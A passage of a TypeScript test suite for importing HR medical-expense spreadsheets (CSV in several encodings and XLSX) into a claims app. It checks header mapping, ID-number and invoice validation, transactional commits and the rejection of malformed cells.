// Spreadsheet import (issue 8) with real files: the same HR sheet as UTF-8 CSV (BOM), GBK CSV
// and XLSX (tests/fixtures/import, written by tests/tools/gen-import-fixtures.ts), bad rows
// included. Preview writes nothing; commit is one transaction; mappings are remembered.
import test from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import iconv from 'iconv-lite';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { makeService, idNumber, tempDir, REPO_ROOT } from '../support/temp.ts';
import { insertCase } from '../../electron/core/caseImport.ts';
import { verifyData } from '../../electron/core/verify.ts';
import type { CaseRecord } from '../../shared/contract.ts';
import { MAX_AMOUNT_FEN, MAX_EXPENSES } from '../../shared/model/case.ts';
import type { ImportPreview, ImportResult } from '../../shared/import.ts';
import { decodeText } from '../../electron/core/import/csv.ts';
import { guessMapping } from '../../electron/core/import/mapping.ts';
import { parseDate, parseKind } from '../../electron/core/import/rows.ts';
import type { ClaimDeskService } from '../../electron/core/service.ts';
import { skippedRowsCsv } from '../../renderer/src/components/import/importFile.ts';

const FIXTURES = path.join(REPO_ROOT, 'tests', 'fixtures', 'import');
const file = (name: string) => ({ fileName: name, base64: fs.readFileSync(path.join(FIXTURES, name)).toString('base64') });

async function ok<T>(p: Promise<{ ok: boolean; value?: unknown; error?: unknown }>): Promise<T> {
  const r = await p;
  assert.equal(r.ok, true, `expected ok, got ${JSON.stringify(r)}`);
  return r.value as T;
}

const count = (s: ClaimDeskService, table: string) => (s.db.prepare(`SELECT COUNT(*) AS n FROM ${table}`).get() as { n: number }).n;

const EXPECTED_MAPPING = { name: 0, idNumber: 1, employer: 2, invoiceCode: 3, invoiceNo: 4, date: 5, institution: 6, item: 7, kind: 8, amount: 9 };

for (const [name, encoding] of [['hr-utf8-bom.csv', 'utf-8'], ['hr-gbk.csv', 'gbk'], ['hr.xlsx', null]] as const) {
  test(`preview of ${name}: headers mapped, good rows accepted, each bad row rejected with its reasons; nothing written`, async () => {
    const s = makeService();
    const p = await ok<ImportPreview>(s.dispatch('import.preview', file(name)));
    assert.equal(p.format, name.endsWith('.xlsx') ? 'xlsx' : 'csv');
    assert.equal(p.encoding, encoding);
    assert.equal(p.columns[0], '姓名');
    assert.equal(p.columns[9], '金额(元)');
    assert.deepEqual(p.mapping, EXPECTED_MAPPING);
    assert.equal(p.mappingSource, 'guessed');
    assert.deepEqual(p.missing, []);
    assert.equal(p.rows, 8);
    assert.equal(p.accepted, 3);
    assert.equal(p.claimants, 2);
    assert.equal(p.totalFen, 35650 + 12000 + 123456);
    const byRow = Object.fromEntries(p.rejected.map((r) => [r.row, r.problems.map((x) => x.field)]));
    // Row 8 (陈静) has no ID number in a sheet with an ID column, and no other row names her with one.
    assert.deepEqual(byRow, { 5: ['idNumber'], 6: ['date'], 7: ['amount'], 8: ['idNumber'], 9: ['idNumber', 'name', 'date', 'amount', 'institution', 'kind'] });
    assert.equal(p.rejected.find((r) => r.row === 8)!.problems[0]!.message['zh-CN'], '缺少身份证号');
    const amount = p.rejected.find((r) => r.row === 7)!.problems[0]!.message['zh-CN'];
    assert.match(amount, /12\.345.*元.*两位小数/);
    assert.match(p.rejected.find((r) => r.row === 5)!.problems[0]!.message['zh-CN'], /校验位/);
    assert.equal(p.sample.length, 8);
    assert.equal(count(s, 'cases'), 0);
    assert.equal(count(s, 'audit_events'), 0);
    s.close();
  });
}

test('GBK detection: valid UTF-8 stays UTF-8, GBK bytes are decoded as GBK', () => {
  const text = '姓名,医院\r\n张伟,厦门市中医院\r\n';
  assert.deepEqual(decodeText(Buffer.from(text, 'utf8')), { text, encoding: 'utf-8' });
  assert.deepEqual(decodeText(iconv.encode(text, 'gbk')), { text, encoding: 'gbk' });
  assert.deepEqual(decodeText(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)])), { text, encoding: 'utf-8' });
});

test('one ID number is one person: a row that gives it another name is rejected, not merged; too-long fields are rejected, never cut', async () => {
  const s = makeService();
  const id = idNumber('35020319850312001');
  const csv = [
    '姓名,身份证号,工作单位,发票号码,日期,医疗机构,金额',
    `陈一,${id},厦门航空有限公司,0001,2026-10-02,厦门市中医院,10.00`,
    `陈二,${id},厦门航空有限公司,0002,2026-10-03,厦门市中医院,40.00`,
    `陈一,${id},${'厦'.repeat(129)},0003,2026-10-04,厦门市中医院,5.00`,
    `陈一,${id},厦门航空有限公司,${'9'.repeat(40)},2026-10-05,厦门市中医院,6.00`,
    `陈一,${id},厦门航空有限公司,0005,2026-10-06,厦门市中医院,"1,23"`,
    '陈四,3.50203E+17,厦门航空有限公司,0006,2026-10-06,厦门市中医院,7.00', // an ID number cell as Excel writes it to CSV
  ].join('\r\n');
  const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'x.csv', base64: Buffer.from(csv).toString('base64') }));
  assert.equal(p.accepted, 1);
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems.map((x) => x.field)]), [[3, ['name']], [4, ['employer']], [5, ['invoiceNo']], [6, ['amount']], [7, ['idNumber']]]);
  assert.match(p.rejected[4]!.problems[0]!.message['zh-CN'], /单元格被存成了数字/);
  assert.match(p.rejected[3]!.problems[0]!.message['zh-CN'], /用逗号作了小数点：请写成 1\.23/);
  // Full-width digits are read as digits (as in dates); a negative amount is said to be one.
  const more = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'y.csv', base64: Buffer.from(['姓名,日期,医疗机构,金额', '王一,2026-10-02,厦门市中医院,１０.５０', '王一,2026-10-03,厦门市中医院,-5', '王一,2026-10-04,厦门市中医院,"12,34.5"'].join('\r\n')).toString('base64') }));
  assert.equal(more.accepted, 1);
  assert.equal(more.totalFen, 1050);
  assert.match(more.rejected[0]!.problems[0]!.message['zh-CN'], /是负数/);
  assert.match(more.rejected[1]!.problems[0]!.message['zh-CN'], /千位分隔不对/);
  assert.match(p.rejected[0]!.problems[0]!.message['zh-CN'], /第 2 行是“陈一”/);
  s.close();
});

test('rows against the database: an ID number it knows under another name, an invoice already in a case, a case that is not there', async () => {
  const s = makeService();
  const id = idNumber('35020319900101001');
  const header = '姓名,身份证号,发票号码,日期,医疗机构,金额';
  const sheet = (...rows: string[]) => ({ fileName: 'x.csv', base64: Buffer.from([header, ...rows].join('\r\n')).toString('base64') });
  const first = await ok<ImportResult>(s.dispatch('import.commit', { ...sheet(`林大,${id},A001,2026-10-02,厦门市中医院,10.00`), mapping: { name: 0, idNumber: 1, invoiceNo: 2, date: 3, institution: 4, amount: 5 }, category: 'outage' }));
  const number = first.cases[0]!.number;
  // The same sheet again, and the same ID under another name: rejected, each with the case that has it.
  const again = await ok<ImportPreview>(s.dispatch('import.preview', sheet(`林大,${id},A001,2026-10-02,厦门市中医院,10.00`, `林小,${id},A002,2026-10-03,厦门市中医院,20.00`, `林大,${id},A003,2026-10-04,厦门市中医院,30.00`)));
  assert.equal(again.accepted, 1);
  assert.deepEqual(again.rejected.map((r) => [r.row, r.problems.map((p) => p.field)]), [[2, ['invoiceNo']], [3, ['name']]]);
  assert.match(again.rejected[0]!.problems[0]!.message['zh-CN'], new RegExp(`已在案件 ${number} 中`));
  assert.match(again.rejected[1]!.problems[0]!.message['zh-CN'], /是“林大”，这一行却是“林小”/);
  // Into that case: the claimant's ID with another name is not the claimant; an invoice the case has is not added twice.
  const into = await ok<ImportPreview>(s.dispatch('import.preview', { ...sheet(`林小,${id},A004,2026-10-05,厦门市中医院,5.00`, `林大,${id},A001,2026-10-02,厦门市中医院,10.00`, `林大,${id},A005,2026-10-06,厦门市中医院,6.00`), number }));
  assert.equal(into.accepted, 1);
  // A number cell drops the leading zeros: 1 is A0001's invoice 0001 all the same; and an invoice twice in the sheet is refused the second time.
  const zeros = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'z.csv', base64: Buffer.from([header, `林大,${id},B0007,2026-10-02,厦门市中医院,1.00`, `林大,${id},B0007,2026-10-03,厦门市中医院,2.00`].join('\r\n')).toString('base64') }));
  assert.deepEqual(zeros.rejected.map((r) => [r.row, r.problems[0]!.message['zh-CN']]), [[3, '这张发票在第 2 行已有']]);
  await ok<ImportResult>(s.dispatch('import.commit', { ...sheet(`林大,${id},0000000801,2026-10-08,厦门市中医院,8.00`), mapping: { name: 0, idNumber: 1, invoiceNo: 2, date: 3, institution: 4, amount: 5 }, category: 'outage' }).then((r) => r));
  const stripped = await ok<ImportPreview>(s.dispatch('import.preview', sheet(`林大,${id},801,2026-10-08,厦门市中医院,8.00`)));
  assert.equal(stripped.accepted, 0);
  assert.match(stripped.rejected[0]!.problems[0]!.message['zh-CN'], /这张发票已在案件/);
  // A case number that is not there is said at the preview, not only at the commit.
  const nowhere = await s.dispatch('import.preview', { ...sheet(`林大,${id},A006,2026-10-07,厦门市中医院,7.00`), number: 'CD-20261127-9999' });
  assert.equal(nowhere.ok, false);
  assert.equal((nowhere as { error: { code: string } }).error.code, 'not_found');
  // A row refused for something else does not decide whose an ID number is.
  const other = idNumber('35020319900101002');
  const p = await ok<ImportPreview>(s.dispatch('import.preview', sheet(`${'赵'.repeat(65)},${other},B001,2026-10-02,厦门市中医院,1.00`, `赵五,${other},B002,2026-10-03,厦门市中医院,2.00`)));
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems.map((x) => x.field)]), [[2, ['name']]]);
  assert.equal(p.accepted, 1);
  s.close();
});

test('UTF-16 text (Excel\'s "Unicode text", tab-separated, with its BOM) is read as UTF-16', () => {
  const text = '姓名\t医院\r\n张伟\t厦门市中医院\r\n';
  assert.deepEqual(decodeText(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])), { text, encoding: 'utf-16' });
  const be = Buffer.from(text, 'utf16le').swap16();
  assert.deepEqual(decodeText(Buffer.concat([Buffer.from([0xfe, 0xff]), be])), { text, encoding: 'utf-16' });
});

test('header guesses: e-receipt and hospital names; dates in the forms people type', () => {
  assert.deepEqual(guessMapping(['票据代码', '票据号码', '日期', '医疗机构', '项目', '类别', '金额', '姓名', '身份证号']),
    { invoiceCode: 0, invoiceNo: 1, date: 2, institution: 3, item: 4, kind: 5, amount: 6, name: 7, idNumber: 8 });
  assert.deepEqual(guessMapping(['序号', '就诊医院名称', '发票金额（元）', '开票日期']), { institution: 1, amount: 2, date: 3 });
  // 报销类别 is the claim's category, not a line's 类别: not guessed (the line kind stays for a column that is one)
  assert.deepEqual(guessMapping(['姓名', '报销类别', '日期', '金额']), { name: 0, date: 2, amount: 3 });
  assert.deepEqual(guessMapping(['报销类别', '费用类别']), { kind: 1 });
  assert.equal(parseDate('2024/3/2'), '2024-03-02');
  assert.equal(parseDate('2024年3月2日'), '2024-03-02');
  assert.equal(parseDate('20240302'), '2024-03-02');
  assert.equal(parseDate('2024-02-30'), null);
  assert.equal(parseDate('3/2/2024'), null);
  assert.equal(parseKind('产前检查'), 'prenatal');
});

test('commit refuses while rows are rejected unless told to skip them; then one case per claimant', async () => {
  const s = makeService();
  const refused = await s.dispatch('import.commit', { ...file('hr-gbk.csv'), mapping: EXPECTED_MAPPING, category: 'outage' });
  assert.equal(refused.ok, false);
  assert.equal((refused as { error: { code: string } }).error.code, 'conflict');
  assert.equal(count(s, 'cases'), 0);
  const r = await ok<ImportResult>(s.dispatch('import.commit', { ...file('hr-gbk.csv'), mapping: EXPECTED_MAPPING, category: 'outage', scheme: 'employee', skipRejected: true }));
  assert.equal(r.imported, 3);
  assert.deepEqual(r.skipped.map((x) => x.row), [5, 6, 7, 8, 9]);
  assert.deepEqual(r.cases.map((c) => [c.claimant, c.lines, c.created]), [['张伟', 2, true], ['欧阳娜娜', 1, true]]);
  const zhang = await ok<CaseRecord>(s.dispatch('cases.get', { number: r.cases[0]!.number }));
  assert.equal(zhang.case.claimant.idNumber, idNumber('35020319850312001'));
  assert.equal(zhang.case.claimant.employer, '厦门航空有限公司');
  assert.deepEqual(zhang.case.expenses.map((e) => [e.date, e.institution, e.item, e.kind, e.amountFen, e.invoiceNo]), [
    ['2026-10-02', '厦门大学附属第一医院', '胃镜检查', 'outpatient', 35650, '0000012345'],
    ['2026-10-05', '厦门市中医院', '针灸治疗', 'outpatient', 12000, '0000012346'],
  ]);
  const ouyang = await ok<CaseRecord>(s.dispatch('cases.get', { number: r.cases[1]!.number }));
  assert.equal(ouyang.case.expenses[0]!.kind, 'inpatient');
  // Imported cases are searchable at once.
  const found = await ok<{ total: number }>(s.dispatch('cases.search', { query: '针灸' }));
  assert.equal(found.total, 1);
  // The mapping is remembered for the next file with this header.
  const again = await ok<ImportPreview>(s.dispatch('import.preview', file('hr-utf8-bom.csv')));
  assert.equal(again.mappingSource, 'remembered');
  s.close();
});

test('commit into an existing case adds its claimant\'s lines as one change; other people\'s rows are rejected, not added', async () => {
  const s = makeService();
  const c = await ok<CaseRecord>(s.dispatch('cases.create', { category: 'trip', claimant: { name: '张伟', idNumber: idNumber('35020319850312001') } }));
  // The sheet has 张伟's two lines and one each of 欧阳娜娜 and 陈静 (other ID numbers).
  const preview = await ok<ImportPreview>(s.dispatch('import.preview', { ...file('hr.xlsx'), number: c.number }));
  assert.equal(preview.accepted, 2);
  const others = preview.rejected.filter((x) => x.problems.some((p) => /该案件的参保人是张伟/.test(p.message['zh-CN'])));
  assert.equal(others.length, 2, JSON.stringify(preview.rejected));
  const r = await ok<ImportResult>(s.dispatch('import.commit', { ...file('hr.xlsx'), mapping: EXPECTED_MAPPING, number: c.number, skipRejected: true }));
  assert.deepEqual(r.cases, [{ number: c.number, claimant: '张伟', lines: 2, created: false }]);
  const rec = await ok<CaseRecord>(s.dispatch('cases.get', { number: c.number }));
  assert.equal(rec.case.expenses.length, 2);
  assert.equal(rec.evaluation.totals.amountFen, 35650 + 12000);
  const actions = (s.db.prepare('SELECT action FROM audit_events ORDER BY id').all() as { action: string }[]).map((e) => e.action);
  assert.deepEqual(actions, ['case.create', 'expense.import']);
  s.close();
});

test('a failed import changes nothing: an error half-way rolls back every case already made', async () => {
  const s = makeService();
  s.db.exec(`CREATE TEMP TRIGGER boom BEFORE INSERT ON expense_lines WHEN NEW.institution = '厦门长庚医院' BEGIN SELECT RAISE(ABORT, 'disk full'); END`);
  const r = await s.dispatch('import.commit', { ...file('hr-utf8-bom.csv'), mapping: EXPECTED_MAPPING, category: 'outage', skipRejected: true });
  assert.equal(r.ok, false);
  for (const t of ['cases', 'people', 'expense_lines', 'audit_events', 'case_search_keys']) assert.equal(count(s, t), 0, t);
  assert.equal((s.db.prepare(`SELECT COUNT(*) AS n FROM settings WHERE key LIKE 'import.mapping:%'`).get() as { n: number }).n, 0);
  const missing = await s.dispatch('import.commit', { ...file('hr-utf8-bom.csv'), mapping: EXPECTED_MAPPING, number: 'CD-20990101-0001', skipRejected: true });
  assert.equal((missing as { error: { code: string } }).error.code, 'not_found');
  s.close();
});

test('bad files and mappings are refused naming what is wrong', async () => {
  const s = makeService();
  const xls = await s.dispatch('import.preview', { fileName: 'old.xls', base64: Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).toString('base64') });
  assert.match((xls as { error: { message: string } }).error.message, /\.xls.*xlsx/);
  assert.deepEqual([(xls as { error: { reason: string; file: string } }).error.reason, (xls as { error: { file: string } }).error.file], ['xls', 'old.xls']);
  const broken = await s.dispatch('import.preview', { fileName: 'x.xlsx', base64: Buffer.from('PK\x03\x04garbage').toString('base64') });
  assert.equal((broken as { error: { field: string } }).error.field, 'base64');
  // The reason lets a screen say it in the user's language (the message is English, for logs and scripts).
  assert.equal((broken as { error: { reason: string } }).error.reason, 'unreadable');
  const headerless = await s.dispatch('import.preview', { fileName: 'empty.csv', base64: Buffer.from('\r\n').toString('base64') });
  assert.equal((headerless as { error: { reason: string } }).error.reason, 'noHeader');
  // A PDF named .csv is not read as a GBK table of garbage.
  const pdf = await s.dispatch('import.preview', { fileName: 'scan.csv', base64: Buffer.from('%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<< >>\x00stream\x00\x01').toString('base64') });
  assert.equal((pdf as { error: { reason: string } }).error.reason, 'notTable');
  const outside = await s.dispatch('import.preview', { ...file('hr.xlsx'), mapping: { amount: 40 } });
  assert.equal((outside as { error: { field: string } }).error.field, 'mapping');
  const unmapped = await ok<ImportPreview>(s.dispatch('import.preview', { ...file('hr.xlsx'), mapping: { name: 0, date: 5 } }));
  assert.deepEqual(unmapped.missing, ['institution', 'amount']);
  assert.equal(unmapped.mappingSource, 'given');
  s.close();
});

test('a sheet that makes many cases merges the search index after the commit; a small one does not', async () => {
  const s = makeService();
  let optimized = 0;
  const optimize = s.search.optimize.bind(s.search);
  s.search.optimize = () => { optimized++; optimize(); };
  await ok<ImportResult>(s.dispatch('import.commit', { ...file('hr-gbk.csv'), mapping: EXPECTED_MAPPING, category: 'outage', skipRejected: true }));
  assert.equal(optimized, 0, '3 cases: no merge');
  const rows = Array.from({ length: 120 }, (_, i) => `员工${i},${idNumber(`350203198501${String(10 + (i % 18)).padStart(2, '0')}${String(100 + i).slice(-3)}`)},2026-10-02,厦门市中医院,针灸,${i + 1}.5`);
  const csv = ['姓名,身份证号,日期,医院,项目,金额', ...rows].join('\r\n');
  const r = await ok<ImportResult>(s.dispatch('import.commit', {
    fileName: 'many.csv', base64: iconv.encode(csv, 'gbk').toString('base64'),
    mapping: { name: 0, idNumber: 1, date: 2, institution: 3, item: 4, amount: 5 }, category: 'outage',
  }));
  assert.equal(r.cases.length, 120);
  assert.equal(optimized, 1, '120 new cases of 123: merged once');
  const found = await ok<{ total: number }>(s.dispatch('cases.search', { query: '员工11', limit: 50 }));
  assert.equal(found.total, 11, '员工11 and 员工110–119');
  s.close();
});

test('an ID number typed into an XLSX number cell has lost its last digits: refused even when what is left passes the check digit', async () => {
  const ExcelJS = (await import('exceljs')).default;
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('费用');
  ws.addRow(['姓名', '身份证号', '就诊日期', '医疗机构', '金额']);
  // 350203198503151916 as a number reads back as 350203198503151940 — whose check digit is valid.
  ws.addRow(['陈美玲', 350203198503151916, '2026-10-08', '厦门大学附属第一医院', 25]);
  ws.addRow(['林晓燕', '350203198811210623', '2026-10-09', '厦门大学附属第一医院', 30]);
  const base64 = Buffer.from(await wb.xlsx.writeBuffer()).toString('base64');
  const s = makeService();
  const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'ids.xlsx', base64 }));
  assert.equal(p.accepted, 1);
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems.map((x) => x.field)]), [[2, ['idNumber']]]);
  assert.match(p.rejected[0]!.problems[0]!.message['zh-CN'], /存成了数字，末几位已丢失/);
  s.close();
});

test('import.commit sent twice with the same request id (a double click, a retry) imports once, even at the same moment', async () => {
  const s = makeService();
  const csv = `姓名,身份证号,日期,医疗机构,项目,金额\n黄志强,${idNumber('35020319800101001')},2026-10-08,厦门市中医院,挂号,30\n`;
  const input = { fileName: 'no-invoices.csv', base64: Buffer.from(csv).toString('base64'), mapping: { name: 0, idNumber: 1, date: 2, institution: 3, item: 4, amount: 5 }, category: 'outage' as const, requestId: 'a1b2c3d4-0001' };
  const first = await ok<ImportResult>(s.dispatch('import.commit', input));
  const again = await ok<ImportResult>(s.dispatch('import.commit', input));
  assert.deepEqual(again, first, 'the second answer is the first one');
  assert.equal(count(s, 'cases'), 1);
  // two at once, under another id (the user chose to import the lines already in a case again): still one case more
  const [a, b] = await Promise.all([s.dispatch('import.commit', { ...input, importDuplicates: true, requestId: 'a1b2c3d4-0002' }), s.dispatch('import.commit', { ...input, importDuplicates: true, requestId: 'a1b2c3d4-0002' })]);
  assert.ok(a.ok && b.ok);
  assert.equal(count(s, 'cases'), 2);
  s.close();
});

test('a line break inside a cell (a quoted CSV field over two lines) is refused with its row, not printed on the cover', async () => {
  const s = makeService();
  const csv = `姓名,身份证号,日期,医疗机构,金额\n"换行\n甲",${idNumber('35020319800101001')},2026-10-08,厦门市中医院,30\n乙,${idNumber('35020319800101002')},2026-10-08,"厦门市\t中医院",30\n丙,${idNumber('35020319800101003')},2026-10-08,厦门市中医院,30\n`;
  const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'breaks.csv', base64: Buffer.from(csv).toString('base64') }));
  assert.equal(p.accepted, 1);
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems.map((x) => x.field)]), [[2, ['name']], [3, ['institution']]]);
  assert.match(p.rejected[0]!.problems[0]!.message['zh-CN'], /姓名含有换行/);
  // C1 controls, line/paragraph separators, bidi overrides and a BOM inside a cell: the same
  for (const ch of ['\u0085', '\u009b', '\u2028', '\u2029', '\u202e', '\u200e', '\ufeff', '\uffff', '\ufffe', '\ufdef']) {
    const one = `姓名,身份证号,日期,医疗机构,项目,金额\n丁,${idNumber('35020319800101004')},2026-10-08,厦门市中医院,药${ch}x,30\n`;
    const r = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'c.csv', base64: Buffer.from(one).toString('base64') }));
    assert.deepEqual(r.rejected.map((x) => x.problems.map((y) => y.field)), [['item']], `U+${ch.codePointAt(0)!.toString(16)}`);
  }
  s.close();
});

test('rows are numbered as a spreadsheet shows them: blank rows counted, a cell over two lines one row; CSV (UTF-8, GBK) as XLSX', async () => {
  const s = makeService();
  const a = idNumber('35020319800101001');
  const b = idNumber('35020319800101002');
  // Row 1 header, 2–3 good, 4 blank, 5 the invoice of row 3 again, 6 a name over two lines,
  // 7 a blank-looking row of empty cells, 8 a date that does not exist, 9 good.
  const sheet: (string[] | null)[] = [
    ['姓名', '身份证号', '发票号码', '日期', '医疗机构', '项目', '金额'],
    ['张伟', a, '0001', '2026-10-08', '厦门市中医院', '针灸', '30'],
    ['李娜', b, '0002', '2026-10-08', '厦门市中医院', '推拿', '40'],
    null,
    ['李娜', b, '0002', '2026-10-09', '厦门市中医院', '推拿', '40'],
    ['张\n伟', a, '0003', '2026-10-09', '厦门市中医院', '西药', '50'],
    ['', '', '', '', '', '', ''],
    ['张伟', a, '0004', '2026-02-30', '厦门市中医院', '针灸', '30'],
    ['李娜', b, '0005', '2026-10-10', '厦门市中医院', '推拿', '40'],
  ];
  const expected = { rows: [2, 3, 5, 6, 8, 9], rejected: [[5, 'invoiceNo'], [6, 'name'], [8, 'date']] };
  const cellOf = (c: string) => (/[",\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c);
  const csv = sheet.map((r) => (r ? r.map(cellOf).join(',') : '')).join('\r\n') + '\r\n';
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('明细');
  sheet.forEach((r, i) => { if (r) ws.getRow(i + 1).values = r; });
  const files = [
    ['utf8.csv', Buffer.from(csv, 'utf8')],
    ['gbk.csv', iconv.encode(csv, 'gbk')],
    ['sheet.xlsx', Buffer.from(await wb.xlsx.writeBuffer())],
  ] as const;
  for (const [fileName, bytes] of files) {
    const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName, base64: bytes.toString('base64') }));
    assert.deepEqual(p.sample.map((r) => r.row), expected.rows, fileName);
    assert.deepEqual(p.rejected.map((r) => [r.row, r.problems[0]!.field]), expected.rejected, fileName);
    assert.match(p.rejected[0]!.problems[0]!.message['zh-CN'], /这张发票在第 3 行已有/, fileName);
  }
  // A blank line before the header: the header is row 2, the data starts at row 3.
  const late = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'late.csv', base64: Buffer.from(`\r\n${csv}`).toString('base64') }));
  assert.deepEqual(late.sample.map((r) => r.row), expected.rows.map((n) => n + 1));
  s.close();
});

test('every mapped text field refuses a line break, as the case file\'s schema does: phone and ID number too', async () => {
  const s = makeService();
  const a = idNumber('35020319800101001');
  const b = idNumber('35020319800101002');
  const csv = `姓名,身份证号,联系电话,日期,医疗机构,金额\n甲,${a},"138\n00000000",2026-10-08,厦门市中医院,30\n乙,"${b.slice(0, 9)}\n${b.slice(9)}",13800000000,2026-10-08,厦门市中医院,30\n丙,${idNumber('35020319800101003')},13800000001,2026-10-08,厦门市中医院,30\n`;
  const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'phone.csv', base64: Buffer.from(csv).toString('base64') }));
  assert.equal(p.accepted, 1);
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems.map((x) => x.field)]), [[2, ['phone']], [3, ['idNumber']]]);
  assert.match(p.rejected[0]!.problems[0]!.message['zh-CN'], /电话含有换行/);
  assert.match(p.rejected[1]!.problems[0]!.message['zh-CN'], /身份证号含有换行/);
  // Imported with the others skipped: what is stored passes the case file's schema.
  const r = await ok<ImportResult>(s.dispatch('import.commit', { fileName: 'phone.csv', base64: Buffer.from(csv).toString('base64'), mapping: p.mapping, category: 'outage', skipRejected: true }));
  assert.deepEqual(r.cases.map((c) => c.claimant), ['丙']);
  s.close();
});

test('ID numbers in the forms people write them: ="…", \'…, full-width digits, spaces inside, a lower-case x', async () => {
  const s = makeService();
  const a = idNumber('35020319800115123');
  const x = [...'0123456789'].map((d) => idNumber(`3502031980011512${d}`)).find((id) => id.endsWith('X'))!;
  const wide = (t: string) => t.replace(/[0-9X]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
  const forms = [`"=""${a}"""`, `'${a}`, wide(a), `${a.slice(0, 6)} ${a.slice(6, 14)} ${a.slice(14)}`, `${a.slice(0, 6)}\u3000${a.slice(6)}`, x.toLowerCase(), `="${x.toLowerCase()}"`];
  const csv = ['姓名,身份证号,日期,医疗机构,金额', ...forms.map((f, i) => `${i < 5 ? '陈明' : '林晓'},${f},2026-10-${String(i + 1).padStart(2, '0')},厦门市中医院,10`)].join('\r\n');
  const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'ids.csv', base64: Buffer.from(csv).toString('base64') }));
  assert.deepEqual(p.rejected.map((r) => [r.row, r.problems.map((q) => q.message['zh-CN'])]), []);
  assert.equal(p.accepted, forms.length);
  assert.equal(p.claimants, 2, 'every form of one number is one person');
  const r = await ok<ImportResult>(s.dispatch('import.commit', { fileName: 'ids.csv', base64: Buffer.from(csv).toString('base64'), mapping: p.mapping, category: 'outage' }));
  const ids = r.cases.map((c) => (s.db.prepare(`SELECT p.id_number AS id FROM cases c JOIN people p ON p.id = c.claimant_id WHERE c.number = ?`).get(c.number) as { id: string }).id);
  assert.deepEqual(ids.sort(), [a, x].sort(), 'stored as 18 plain characters, X upper-case');
  // Still refused: a number that is wrong once unwrapped, and anything but spaces inside.
  const bad = `姓名,身份证号,日期,医疗机构,金额\r\n陈明,="${a.slice(0, 17)}",2026-10-01,厦门市中医院,10\r\n陈明,${a.slice(0, 6)}-${a.slice(6)},2026-10-01,厦门市中医院,10\r\n`;
  const q = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'bad.csv', base64: Buffer.from(bad).toString('base64') }));
  assert.deepEqual(q.rejected.map((r) => [r.row, r.problems.map((x) => x.field)]), [[2, ['idNumber']], [3, ['idNumber']]]);
  s.close();
});

test('a wrong ID number is blamed on a number cell only when it was one: an XLSX number cell or 3.50206E+17, never a CSV or XLSX text cell', async () => {
  const s = makeService();
  const wrong = '350206198512034560'; // its check digit should be 7
  const csv = `姓名,身份证号,日期,医疗机构,金额\r\n陈明,${wrong},2026-10-01,厦门市中医院,10\r\n林晓,3.50206E+17,2026-10-01,厦门市中医院,10\r\n`;
  const p = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'ids.csv', base64: Buffer.from(csv).toString('base64') }));
  const says = (v: ImportPreview) => v.rejected.map((r) => r.problems[0]!.message['zh-CN']);
  assert.match(says(p)[0]!, /校验位不正确，请核对$/, 'a text cell: the check digit, nothing about numbers');
  assert.doesNotMatch(says(p)[0]!, /数字/);
  assert.match(says(p)[1]!, /单元格被存成了数字，请把该列设为文本/);
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('明细');
  ws.addRow(['姓名', '身份证号', '日期', '医疗机构', '金额']);
  ws.addRow(['陈明', wrong, '2026-10-01', '厦门市中医院', 10]); // text cell
  ws.addRow(['林晓', 350206851203456, '2026-10-01', '厦门市中医院', 10]); // a 15-digit number cell: held exactly, still a number
  const x = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'ids.xlsx', base64: Buffer.from(await wb.xlsx.writeBuffer()).toString('base64') }));
  assert.match(says(x)[0]!, /校验位不正确，请核对$/);
  assert.match(says(x)[1]!, /应为18位.*单元格被存成了数字/);
  s.close();
});

test('XLSX cells that are not plain values: a formula without its saved result and an error value are said so naming the column; a hyperlink\'s rich text is its text', async () => {
  const s = makeService();
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('明细');
  ws.addRow(['姓名', '就诊日期', '医疗机构', '项目', '金额']);
  ws.addRow(['陈明', '2026-10-01', '厦门市中医院', '针灸', { formula: 'SUM(10,2.5)' }]); // written by a program: no result
  ws.addRow(['陈明', { error: '#N/A' }, '厦门市中医院', '针灸', 10]);
  ws.addRow(['陈明', '2026-10-03', '厦门市中医院', '针灸', { formula: '1/0', result: { error: '#DIV/0!' } }]);
  ws.addRow(['陈明', '2026-10-04', { text: { richText: [{ text: '厦门市' }, { text: '中医院', font: { bold: true } }] }, hyperlink: 'https://example.org' } as unknown as ExcelJS.CellValue, { richText: [{ text: '针' }, { text: '灸' }] }, { formula: 'SUM(10,2.5)', result: 12.5 }]);
  ws.getCell('A6').value = '陈明'; ws.getCell('B6').value = '2026-10-05'; ws.getCell('C6').value = '厦门市中医院';
  ws.getCell('E6').value = { formula: 'E5*2' }; // master of a shared formula, no result
  ws.getCell('A7').value = '陈明'; ws.getCell('B7').value = '2026-10-06'; ws.getCell('C7').value = '厦门市中医院';
  ws.getCell('E7').value = { sharedFormula: 'E6' } as ExcelJS.CellValue;
